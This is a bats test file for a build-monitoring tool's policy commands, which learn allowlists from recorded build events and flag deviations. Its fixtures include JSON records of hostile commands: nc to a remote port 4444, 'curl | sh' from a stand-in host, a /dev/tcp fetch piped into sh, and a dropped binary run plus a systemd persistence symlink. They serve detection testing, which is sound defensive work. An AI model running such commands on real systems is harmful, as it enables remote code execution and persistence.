#!/usr/bin/env bats
# Learn, then enforce: `buildwarden policy suggest EVENTS.jsonl...` and
# `buildwarden policy test POLICY EVENTS.jsonl` (docs/POLICY.md): usage and
# log errors (status 65, FILE:LINE; usage errors 64), an empty log, the round trip on a
# saved real run (tests/fuzz/report/run.jsonl, a make build in which a rule
# flagged curl) and on a fresh one (root), a log with an unexpected exec and
# connect (status 1, rule and record printed), and the Markdown report's
# snippet. Run: bats --tap tests/cli/policy_learn.bats

bats_require_minimum_version 1.5.0

SRC=$BATS_TEST_DIRNAME/../..
BW=${BUILDWARDEN:-$SRC/build/buildwarden}
PROBE=${BW_BUILD:-$SRC/build}/tests/fixtures/hook_probe
RUN_LOG=$SRC/tests/fuzz/report/run.jsonl
T="timeout -k 5 30"

setup() {
	[ -x "$BW" ] || skip "buildwarden not built ($BW)"
	DIR=$BATS_TEST_TMPDIR # bats removes it
}

# What the last `run` gave, when an assertion fails.
show() {
	printf 'status %s\n--- stdout\n%s\n--- stderr\n%s\n' "$status" "$output" "${stderr-}"
}

# expect_error STATUS TEXT
expect_error() {
	if [ "$status" -ne "$1" ] || [[ "$stderr" != *"$2"* ]]; then
		echo "expected status $1 and stderr with '$2'"
		show
		return 1
	fi
}

# A small clean run: make -> cc, a DNS lookup answered, a connect to the
# name, writes under the working directory and /tmp.
write_clean_log() {
	cat >"$DIR/clean.jsonl" <<'LOG'
{"seq":1,"type":"exec","job_id":1,"ktime_ns":100,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"make","filename":"/usr/bin/make","exe":"/usr/bin/make","cwd":"/src/proj","argc":1,"argv":["make"],"stdio":[{"fd":0,"kind":"null","id":4,"mode":"r","rdev":"1:3"},{"fd":1,"kind":"pipe","id":77,"mode":"w"},{"fd":2,"kind":"pipe","id":77,"mode":"w"}],"env":{}}
{"seq":2,"type":"fork","job_id":1,"ktime_ns":110,"pid":101,"tid":101,"start_ns":1010,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":3,"type":"exec","job_id":1,"ktime_ns":120,"pid":101,"tid":101,"start_ns":1010,"ppid":100,"parent_start_ns":1000,"comm":"cc","filename":"/usr/bin/cc","exe":"/usr/bin/x86_64-linux-gnu-gcc-12","cwd":"/src/proj","argc":4,"argv":["cc","-o","a","a.c"]}
{"seq":4,"type":"file","job_id":1,"ktime_ns":130,"pid":101,"tid":101,"start_ns":1010,"op":"open-write","path":"/src/proj/a","resolved":true,"result":0,"comm":"cc"}
{"seq":5,"type":"file","job_id":1,"ktime_ns":131,"pid":101,"tid":101,"start_ns":1010,"op":"open-write","path":"/tmp/cc4Xa.s","resolved":true,"result":0,"comm":"cc"}
{"seq":6,"type":"exit","job_id":1,"ktime_ns":140,"pid":101,"tid":101,"start_ns":1010,"ppid":100,"parent_start_ns":1000,"comm":"cc","exit_code":0,"signal":null,"core_dumped":false}
{"seq":7,"type":"fork","job_id":1,"ktime_ns":150,"pid":102,"tid":102,"start_ns":1020,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":8,"type":"exec","job_id":1,"ktime_ns":160,"pid":102,"tid":102,"start_ns":1020,"ppid":100,"parent_start_ns":1000,"comm":"apt-get","filename":"/usr/bin/apt-get","exe":"/usr/bin/apt-get","cwd":"/src/proj","argc":2,"argv":["apt-get","update"]}
{"seq":9,"type":"dns","job_id":1,"ktime_ns":170,"pid":102,"tid":102,"start_ns":1020,"direction":"query","server":"10.0.0.53","server_port":53,"id":7,"qname":"deb.debian.org","qtype":"A","rcode":0,"resolver":"configured"}
{"seq":10,"type":"dns","job_id":1,"ktime_ns":180,"pid":102,"tid":102,"start_ns":1020,"direction":"answer","server":"10.0.0.53","server_port":53,"id":7,"qname":"deb.debian.org","qtype":"A","rcode":0,"answers":[{"type":"A","name":"deb.debian.org","address":"151.101.2.132","ttl":60}]}
{"seq":11,"type":"connect","job_id":1,"ktime_ns":190,"pid":102,"tid":102,"start_ns":1020,"family":"ipv4","address":"151.101.2.132","port":80,"proto":"tcp","dns_name":"deb.debian.org","result":0,"fd":3,"comm":"apt-get"}
{"seq":12,"type":"exit","job_id":1,"ktime_ns":200,"pid":102,"tid":102,"start_ns":1020,"ppid":100,"parent_start_ns":1000,"comm":"apt-get","exit_code":0,"signal":null,"core_dumped":false}
{"seq":13,"type":"exit","job_id":1,"ktime_ns":210,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"make","exit_code":0,"signal":null,"core_dumped":false}
{"seq":14,"type":"summary","job_id":1,"command":["make"],"exit_status":0,"build_exit_code":0,"build_signal":null,"lost":0,"policy":"<default policy>","mode":"enforce","job_killed":false}
LOG
}

# $1 plus, before its summary, a process of the run that starts nc and
# connects to an address no DNS answer named.
add_unexpected() {
	python3 - "$1" "$2" <<'EOF'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
root = next(r for r in recs if r["type"] == "exec")
pid, start = 4242, root["start_ns"] + 5
extra = [
    {"type": "fork", "job_id": root["job_id"], "pid": pid, "tid": pid, "start_ns": start,
     "parent_pid": root["pid"], "parent_tid": root["pid"], "parent_start_ns": root["start_ns"]},
    {"type": "exec", "job_id": root["job_id"], "pid": pid, "tid": pid, "start_ns": start,
     "ppid": root["pid"], "parent_start_ns": root["start_ns"], "comm": "nc",
     "filename": "/usr/bin/nc", "exe": "/usr/bin/nc.openbsd", "cwd": "/", "argc": 3,
     "argv": ["nc", "203.0.113.5", "4444"]},
    {"type": "connect", "job_id": root["job_id"], "pid": pid, "tid": pid, "start_ns": start,
     "family": "ipv4", "address": "203.0.113.5", "port": 4444, "proto": "tcp",
     "dns_name": None, "result": 0, "fd": 3, "comm": "nc"},
]
out = recs[:-1] + extra + recs[-1:]
with open(sys.argv[2], "w") as f:
    for i, r in enumerate(out, 1):
        r["seq"] = i
        f.write(json.dumps(r) + "\n")
EOF
}

@test "policy --help lists suggest and test with their exit statuses" {
	run --separate-stderr $T "$BW" policy --help
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *"policy suggest [--enforce] [-o FILE] EVENTS.jsonl..."* ]] || { show; false; }
	[[ "$output" == *"policy test POLICY EVENTS.jsonl"* ]] || { show; false; }
	[[ "$output" == *"1 when test found verdicts"* ]] || { show; false; }
}

@test "usage errors are status 64" {
	run --separate-stderr $T "$BW" policy suggest
	expect_error 64 "suggest needs at least one event log"
	run --separate-stderr $T "$BW" policy suggest --bogus x.jsonl
	expect_error 64 "unknown option '--bogus'"
	run --separate-stderr $T "$BW" policy test only-one.yaml
	expect_error 64 "test takes a POLICY and one EVENTS.jsonl"
	run --separate-stderr $T "$BW" policy test a.yaml b.jsonl c.jsonl
	expect_error 64 "test takes a POLICY and one EVENTS.jsonl"
}

@test "a missing log or policy is status 65 naming the file" {
	write_clean_log
	run --separate-stderr $T "$BW" policy suggest "$DIR/clean.jsonl" "$DIR/nope.jsonl"
	expect_error 65 "$DIR/nope.jsonl: No such file or directory"
	[ -z "$output" ] || { echo "no policy on a failed read"; show; false; }
	"$BW" policy suggest -o "$DIR/p.yaml" "$DIR/clean.jsonl"
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/nope.jsonl"
	expect_error 65 "$DIR/nope.jsonl: No such file or directory"
	run --separate-stderr $T "$BW" policy test "$DIR/nope.yaml" "$DIR/clean.jsonl"
	expect_error 65 "nope.yaml"
}

@test "a malformed line is status 65 with FILE:LINE, for suggest and test" {
	write_clean_log
	"$BW" policy suggest -o "$DIR/p.yaml" "$DIR/clean.jsonl"
	sed -i '5s/.*/{"seq":5,"type":"file",/' "$DIR/clean.jsonl"
	run --separate-stderr $T "$BW" policy suggest "$DIR/clean.jsonl"
	expect_error 65 "$DIR/clean.jsonl:5: malformed record: the record is cut short"
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/clean.jsonl"
	expect_error 65 "$DIR/clean.jsonl:5: malformed record: the record is cut short"
	# Valid JSON, but no record the kernel could have written.
	write_clean_log
	sed -i '11s/"address":"151.101.2.132"/"address":"not-an-address"/' "$DIR/clean.jsonl"
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/clean.jsonl"
	expect_error 65 "$DIR/clean.jsonl:11: malformed record: connect record without"
}

@test "an empty log: a policy that allows nothing, which check accepts; test fires nothing" {
	: >"$DIR/empty.jsonl"
	run --separate-stderr $T "$BW" policy suggest "$DIR/empty.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *"empty.jsonl: 0 records"* ]] || { show; false; }
	printf '%s\n' "$output" >"$DIR/p.yaml"
	run --separate-stderr $T "$BW" policy check "$DIR/p.yaml"
	[ "$status" -eq 0 ] || { show; false; }
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/empty.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *"0 verdicts would fire"* ]] || { show; false; }
}

@test "suggest: commented audit YAML that check accepts, with what the run did" {
	write_clean_log
	run --separate-stderr $T "$BW" policy suggest -o "$DIR/p.yaml" "$DIR/clean.jsonl"
	[ "$status" -eq 0 ] && [ -z "$output" ] || { show; false; }
	run --separate-stderr $T "$BW" policy check --json "$DIR/p.yaml"
	[ "$status" -eq 0 ] || { show; cat "$DIR/p.yaml"; false; }
	python3 - "$DIR/p.yaml" "$output" <<'EOF'
import json, sys
text = open(sys.argv[1]).read()
pol = json.loads(sys.argv[2])
assert pol["mode"] == "audit", pol["mode"]
names = [r["name"] for r in pol["rules"]]
assert names == ["exec-outside-allowlist", "connect-outside-allowlist",
                 "dns-outside-allowlist", "write-outside-allowlist"], names
assert "clean.jsonl: 14 records (3 execs, 1 connects, 1 DNS queries, 2 file writes)" in text, text
for want in ('"/usr/bin/make"', '"/usr/bin/x86_64-linux-gnu-gcc-12"', '"/usr/bin/apt-get"',
             '- domains: ["deb.debian.org"]\n        ports: [80]', '"/src/proj/"', '"/tmp/"'):
    assert want in text, (want, text)
assert "151.101.2.132" not in text, "a named address must be allowed by name"
EOF
}

@test "suggest counts links as writes: a hard link by its new name, a symlink by its own" {
	cat >"$DIR/ln.jsonl" <<'LOG'
{"seq":1,"type":"exec","job_id":1,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"ln","filename":"/usr/bin/ln","exe":"/usr/bin/ln","cwd":"/src","argc":3,"argv":["ln","/opt/vendor/lib/a.so","/var/cache/bw-links/a.so"]}
{"seq":2,"type":"file","job_id":1,"pid":100,"tid":100,"start_ns":1000,"op":"link","path":"/opt/vendor/lib/a.so","path2":"/var/cache/bw-links/a.so","resolved":false,"open_flags":0,"result":0,"truncated":false,"comm":"ln"}
{"seq":3,"type":"file","job_id":1,"pid":100,"tid":100,"start_ns":1000,"op":"symlink","path":"/srv/bw-app/current","path2":null,"target":"releases/7","resolved":false,"open_flags":0,"result":0,"truncated":false,"comm":"ln"}
LOG
	run --separate-stderr $T "$BW" policy suggest "$DIR/ln.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" == *"2 file writes"* ]] || { show; false; }
	[[ "$output" == *'"/var/cache/bw-links/"'* ]] || { show; false; }
	[[ "$output" == *'"/srv/bw-app/"'* ]] || { show; false; }
	[[ "$output" != *'"/opt/vendor/'* ]] || { show; false; }
	[[ "$output" == *"op: [open-write, rename, unlink, link, symlink]"* ]] || { show; false; }
	# The suggested policy passes its own log.
	printf '%s\n' "$output" >"$DIR/p.yaml"
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/ln.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
}

@test "round trip: test of the suggested policy on its own log fires nothing" {
	write_clean_log
	"$BW" policy suggest -o "$DIR/p.yaml" "$DIR/clean.jsonl"
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/clean.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	[ "$output" = "$DIR/clean.jsonl: 0 verdicts would fire under $DIR/p.yaml" ] || { show; false; }
}

@test "an unexpected exec and connect: status 1, each rule and record printed" {
	write_clean_log
	"$BW" policy suggest --enforce -o "$DIR/p.yaml" "$DIR/clean.jsonl"
	add_unexpected "$DIR/clean.jsonl" "$DIR/bad.jsonl"
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/bad.jsonl"
	[ "$status" -eq 1 ] || { show; false; }
	[[ "$output" == *"bad.jsonl:15: rule 'exec-outside-allowlist' (high, on exec) would kill-process"* ]] || { show; false; }
	[[ "$output" == *"bad.jsonl:16: rule 'connect-outside-allowlist' (high, on connect) would kill-job (the job would end here)"* ]] || { show; false; }
	[[ "$output" == *'record: {"type":"exec"'*'"exe":"/usr/bin/nc.openbsd"'* ]] || { show; false; }
	[[ "$output" == *'record: {"type":"connect"'*'"address":"203.0.113.5","port":4444'* ]] || { show; false; }
	[[ "$output" == *"2 verdicts would fire"* ]] || { show; false; }
	# The same log in audit mode: the same verdicts, as alerts.
	sed -i 's/^mode: enforce/mode: audit/' "$DIR/p.yaml"
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/bad.jsonl"
	[ "$status" -eq 1 ] || { show; false; }
	[[ "$output" == *"would alert (written kill-process, audit mode)"* ]] || { show; false; }
}

@test "the live engine judges the replay: the default policy on a saved attack" {
	# Lineage and provenance come from the engine: curl piped into sh is a
	# default-policy verdict only if the pipe between them is known.
	cat >"$DIR/attack.jsonl" <<'LOG'
{"seq":1,"type":"exec","job_id":1,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"bash","filename":"/bin/bash","exe":"/usr/bin/bash","cwd":"/src","argc":3,"argv":["bash","-c","curl -s https://x.example/i | sh"]}
{"seq":2,"type":"fork","job_id":1,"pid":101,"tid":101,"start_ns":1010,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":3,"type":"exec","job_id":1,"pid":101,"tid":101,"start_ns":1010,"ppid":100,"parent_start_ns":1000,"comm":"curl","filename":"/usr/bin/curl","exe":"/usr/bin/curl","cwd":"/src","argc":3,"argv":["curl","-s","https://x.example/i"],"stdio":[{"fd":0,"kind":"null","id":4,"mode":"r"},{"fd":1,"kind":"pipe","id":555,"mode":"w"},{"fd":2,"kind":"pipe","id":9,"mode":"w"}]}
{"seq":4,"type":"fork","job_id":1,"pid":102,"tid":102,"start_ns":1020,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":5,"type":"exec","job_id":1,"pid":102,"tid":102,"start_ns":1020,"ppid":100,"parent_start_ns":1000,"comm":"sh","filename":"/bin/sh","exe":"/usr/bin/dash","cwd":"/src","argc":1,"argv":["sh"],"stdio":[{"fd":0,"kind":"pipe","id":555,"mode":"r"},{"fd":1,"kind":"pipe","id":9,"mode":"w"},{"fd":2,"kind":"pipe","id":9,"mode":"w"}]}
LOG
	"$BW" policy default >"$DIR/default.yaml"
	run --separate-stderr $T "$BW" policy test "$DIR/default.yaml" "$DIR/attack.jsonl"
	[ "$status" -eq 1 ] || { show; false; }
	[[ "$output" == *"attack.jsonl:5: rule 'download-piped-to-shell' (high, on exec) would alert"* ]] ||
		{ show; false; }
	# Without the pipe's writer, the same sh is no verdict.
	sed -i '3d' "$DIR/attack.jsonl"
	run --separate-stderr $T "$BW" policy test "$DIR/default.yaml" "$DIR/attack.jsonl"
	[ "$status" -eq 1 ] && [[ "$output" != *"attack.jsonl:4: rule '"* ]] || { show; false; }
}

@test "the replay judges a pipe a shell's own fork wrote: a function's /dev/tcp, then a read loop into sh" {
	# `fetch | sh` with fetch() a bash function: the writer is a fork that
	# runs no program and connects itself; only its exit record says which
	# pipe it wrote.
	cat >"$DIR/tcp.jsonl" <<'LOG'
{"seq":1,"type":"exec","job_id":1,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"bash","filename":"/bin/bash","exe":"/usr/bin/bash","cwd":"/src","argc":2,"argv":["bash","get.sh"]}
{"seq":2,"type":"fork","job_id":1,"pid":101,"tid":101,"start_ns":1010,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":3,"type":"connect","job_id":1,"pid":101,"tid":101,"start_ns":1010,"family":"ipv4","address":"192.0.2.7","port":80,"proto":"tcp","result":0,"fd":3,"comm":"bash"}
{"seq":4,"type":"fork","job_id":1,"pid":102,"tid":102,"start_ns":1020,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":5,"type":"exec","job_id":1,"pid":102,"tid":102,"start_ns":1020,"ppid":100,"parent_start_ns":1000,"comm":"sh","filename":"/bin/sh","exe":"/usr/bin/dash","cwd":"/src","argc":1,"argv":["sh"],"stdio":[{"fd":0,"kind":"pipe","id":777,"mode":"r"},{"fd":1,"kind":"pipe","id":9,"mode":"w"},{"fd":2,"kind":"pipe","id":9,"mode":"w"}]}
{"seq":6,"type":"exit","job_id":1,"pid":101,"tid":101,"start_ns":1010,"ppid":100,"parent_start_ns":1000,"comm":"bash","exit_code":0,"signal":null,"core_dumped":false,"stdout_pipe":777}
LOG
	"$BW" policy default >"$DIR/default.yaml"
	run --separate-stderr $T "$BW" policy test "$DIR/default.yaml" "$DIR/tcp.jsonl"
	[ "$status" -eq 1 ] || { show; false; }
	[[ "$output" == *"tcp.jsonl:6: rule 'download-piped-to-shell'"*"would alert"* ]] || { show; false; }
	[[ "$output" != *"tcp.jsonl:5: rule '"* ]] || { show; false; }
	# The same without the connect: a shell's own output is no download.
	sed -i '3d' "$DIR/tcp.jsonl"
	run --separate-stderr $T "$BW" policy test "$DIR/default.yaml" "$DIR/tcp.jsonl"
	[[ "$output" != *"rule 'download-piped-to-shell'"* ]] || { show; false; }
}

@test "the replay reads link records: a hard link of a download is the download, a symlink's target is text" {
	cat >"$DIR/links.jsonl" <<'LOG'
{"seq":1,"type":"exec","job_id":1,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"bash","filename":"/bin/bash","exe":"/usr/bin/bash","cwd":"/src","argc":2,"argv":["bash","setup.sh"]}
{"seq":2,"type":"fork","job_id":1,"pid":101,"tid":101,"start_ns":1010,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":3,"type":"exec","job_id":1,"pid":101,"tid":101,"start_ns":1010,"ppid":100,"parent_start_ns":1000,"comm":"curl","filename":"/usr/bin/curl","exe":"/usr/bin/curl","cwd":"/src","argc":4,"argv":["curl","-o","/tmp/.dl","https://x.example/a"]}
{"seq":4,"type":"connect","job_id":1,"pid":101,"tid":101,"start_ns":1010,"family":"ipv4","address":"192.0.2.7","port":443,"proto":"tcp","result":0,"fd":3,"comm":"curl"}
{"seq":5,"type":"file","job_id":1,"pid":101,"tid":101,"start_ns":1010,"op":"open-write","path":"/tmp/.dl","path2":null,"resolved":true,"open_flags":577,"result":0,"truncated":false,"comm":"curl"}
{"seq":6,"type":"fork","job_id":1,"pid":102,"tid":102,"start_ns":1020,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":7,"type":"exec","job_id":1,"pid":102,"tid":102,"start_ns":1020,"ppid":100,"parent_start_ns":1000,"comm":"ln","filename":"/usr/bin/ln","exe":"/usr/bin/ln","cwd":"/src","argc":3,"argv":["ln","/tmp/.dl","/tmp/tool"]}
{"seq":8,"type":"file","job_id":1,"pid":102,"tid":102,"start_ns":1020,"op":"link","path":"/tmp/.dl","path2":"/tmp/tool","resolved":false,"open_flags":0,"result":0,"truncated":false,"comm":"ln"}
{"seq":9,"type":"file","job_id":1,"pid":102,"tid":102,"start_ns":1020,"op":"symlink","path":"/root/.config/systemd/user/x.service","path2":null,"target":"/tmp/x.service","resolved":false,"open_flags":0,"result":0,"truncated":false,"comm":"ln"}
{"seq":10,"type":"fork","job_id":1,"pid":103,"tid":103,"start_ns":1030,"parent_pid":100,"parent_tid":100,"parent_start_ns":1000}
{"seq":11,"type":"exec","job_id":1,"pid":103,"tid":103,"start_ns":1030,"ppid":100,"parent_start_ns":1000,"comm":"tool","filename":"/tmp/tool","exe":"/tmp/tool","cwd":"/src","argc":1,"argv":["/tmp/tool"]}
LOG
	"$BW" policy default >"$DIR/default.yaml"
	run --separate-stderr $T "$BW" policy test "$DIR/default.yaml" "$DIR/links.jsonl"
	[ "$status" -eq 1 ] || { show; false; }
	[[ "$output" == *"links.jsonl:9: rule 'persistence-write'"*"would alert"* ]] || { show; false; }
	[[ "$output" == *"links.jsonl:11: rule 'dropped-file-executed'"*"would alert"* ]] || { show; false; }
	[[ "$output" != *"links.jsonl:8: rule '"* ]] || { show; false; }
	# Without the link, /tmp/tool is no download.
	sed -i '8d' "$DIR/links.jsonl"
	run --separate-stderr $T "$BW" policy test "$DIR/default.yaml" "$DIR/links.jsonl"
	[[ "$output" != *"rule 'dropped-file-executed'"* ]] || { show; false; }
}

@test "a saved real run: its flagged curl is left out, so test fires on it alone" {
	run --separate-stderr $T "$BW" policy suggest "$RUN_LOG" "$RUN_LOG"
	[ "$status" -eq 0 ] || { show; false; }
	printf '%s\n' "$output" >"$DIR/p.yaml"
	[[ "$output" == *"1 verdict in that run: the records it judged are not allowlisted (rules: curl-in-build)"* ]] || { show; false; }
	[[ "$output" != *'"/usr/bin/curl"'* ]] || { show; false; }
	"$BW" policy check "$DIR/p.yaml" >/dev/null
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$RUN_LOG"
	[ "$status" -eq 1 ] || { show; false; }
	[[ "$output" == *"run.jsonl:42: rule 'exec-outside-allowlist'"* ]] || { show; false; }
	[[ "$output" == *"1 verdict would fire"* ]] || { show; false; }
}

@test "report --markdown ends with the enforcing policy, folded, that check accepts" {
	write_clean_log
	run --separate-stderr $T "$BW" report --no-tree --markdown "$DIR/r.md" "$DIR/clean.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	tail -n 1 "$DIR/r.md" | grep -qx '</details>' || { tail -5 "$DIR/r.md"; false; }
	grep -q '^<details><summary>A policy that would enforce what this run did</summary>$' "$DIR/r.md"
	sed -n '/^```yaml$/,/^```$/p' "$DIR/r.md" | sed '1d;$d' >"$DIR/snippet.yaml"
	grep -qx 'mode: enforce' "$DIR/snippet.yaml"
	grep -q '"/usr/bin/apt-get"' "$DIR/snippet.yaml"
	run --separate-stderr $T "$BW" policy check "$DIR/snippet.yaml"
	[ "$status" -eq 0 ] || { show; cat "$DIR/snippet.yaml"; false; }
	run --separate-stderr $T "$BW" policy test "$DIR/snippet.yaml" "$DIR/clean.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
}

@test "a fresh run (root, BPF): suggest, then test on it fires nothing, on an extra exec fires" {
	[ "$(id -u)" -eq 0 ] || skip "needs root"
	[ -e /sys/kernel/btf/vmlinux ] || skip "kernel has no BTF"
	[ -x "$PROBE" ] || skip "hook_probe not built ($PROBE)"
	command -v cc >/dev/null || skip "no C compiler"
	mkdir "$DIR/proj"
	printf 'int main(void) { return 0; }\n' >"$DIR/proj/a.c"
	cd "$DIR/proj"
	run --separate-stderr timeout -k 5 60 "$BW" run --no-tree --record all --events "$DIR/r.jsonl" -- \
		sh -c "cc -o a a.c && ./a && mkdir -p out && cp a out/ && '$PROBE' tcp 127.0.0.1 9 write '$DIR/proj/out/w'"
	[ "$status" -eq 0 ] || { show; false; }
	grep -q '"type":"connect"' "$DIR/r.jsonl" && grep -q '"type":"file"' "$DIR/r.jsonl" ||
		{ echo "no connect or file record"; cat "$DIR/r.jsonl"; false; }
	run --separate-stderr $T "$BW" policy suggest -o "$DIR/p.yaml" "$DIR/r.jsonl"
	[ "$status" -eq 0 ] || { show; false; }
	grep -q -- '- cidrs: \["127.0.0.1"\]' "$DIR/p.yaml" || { cat "$DIR/p.yaml"; false; }
	"$BW" policy check "$DIR/p.yaml" >/dev/null
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/r.jsonl"
	[ "$status" -eq 0 ] || { show; cat "$DIR/p.yaml"; false; }
	add_unexpected "$DIR/r.jsonl" "$DIR/bad.jsonl"
	run --separate-stderr $T "$BW" policy test "$DIR/p.yaml" "$DIR/bad.jsonl"
	[ "$status" -eq 1 ] || { show; false; }
	[[ "$output" == *"rule 'exec-outside-allowlist'"*"rule 'connect-outside-allowlist'"* ]] || { show; false; }
}
